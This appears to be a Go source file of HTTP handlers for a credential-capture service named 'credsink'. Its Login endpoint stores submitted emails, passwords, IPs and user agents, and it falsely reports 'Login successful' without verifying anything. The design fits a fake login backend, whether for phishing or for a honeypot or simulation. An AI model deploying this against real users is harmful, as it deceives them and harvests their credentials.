package handlers

import (
	"context"
	"encoding/json"
	"errors"
	"net/http"

	"github.com/credsink/credsink/internal/models"
	"github.com/credsink/credsink/internal/services"
	pkghttp "github.com/credsink/credsink/pkg/http"
)

// CaptureServiceInterface defines the interface for the capture pipeline
type CaptureServiceInterface interface {
	Submit(ctx context.Context, email, password string, client services.ClientContext) (*services.SubmitAck, error)
	ListAttempts(ctx context.Context) ([]models.RedactedLoginAttempt, error)
	PurgeAttempts(ctx context.Context) (int64, error)
}

// CaptureHandler handles the capture HTTP endpoints
type CaptureHandler struct {
	service  CaptureServiceInterface
	ipConfig *pkghttp.IPConfig
}

// NewCaptureHandler creates a new CaptureHandler
func NewCaptureHandler(service CaptureServiceInterface, ipConfig *pkghttp.IPConfig) *CaptureHandler {
	return &CaptureHandler{
		service:  service,
		ipConfig: ipConfig,
	}
}

// LoginRequest represents the request body for a credential submission
type LoginRequest struct {
	Email    string `json:"email" validate:"required"`
	Password string `json:"password" validate:"required"`
}

// Login records a credential submission and acknowledges it. The response
// always reports success when a record was persisted; no verification
// happens anywhere.
func (h *CaptureHandler) Login(w http.ResponseWriter, r *http.Request) {
	var req LoginRequest

	if err := json.NewDecoder(r.Body).Decode(&req); err != nil {
		pkghttp.WriteBadRequest(w, "Email and password are required")
		return
	}

	if err := ValidateRequest(req); err != nil {
		pkghttp.WriteBadRequest(w, "Email and password are required")
		return
	}

	client := services.ClientContext{
		IP:        pkghttp.ExtractClientIP(r, h.ipConfig),
		UserAgent: r.Header.Get("User-Agent"),
	}

	ack, err := h.service.Submit(r.Context(), req.Email, req.Password, client)
	if err != nil {
		if errors.Is(err, models.ErrValidation) {
			pkghttp.WriteBadRequest(w, "Email and password are required")
			return
		}
		pkghttp.WriteServerError(w, "Server error occurred")
		return
	}

	pkghttp.WriteSuccess(w, "Login successful", ack)
}

// ListAttempts returns the most recent captured attempts, newest first,
// with password fields stripped.
func (h *CaptureHandler) ListAttempts(w http.ResponseWriter, r *http.Request) {
	attempts, err := h.service.ListAttempts(r.Context())
	if err != nil {
		pkghttp.WriteServerError(w, "Error fetching data")
		return
	}

	pkghttp.WriteList(w, len(attempts), attempts)
}

// PurgeAttempts deletes every captured attempt
func (h *CaptureHandler) PurgeAttempts(w http.ResponseWriter, r *http.Request) {
	if _, err := h.service.PurgeAttempts(r.Context()); err != nil {
		pkghttp.WriteServerError(w, "Error deleting data")
		return
	}

	pkghttp.WriteSuccess(w, "All login attempts deleted", nil)
}
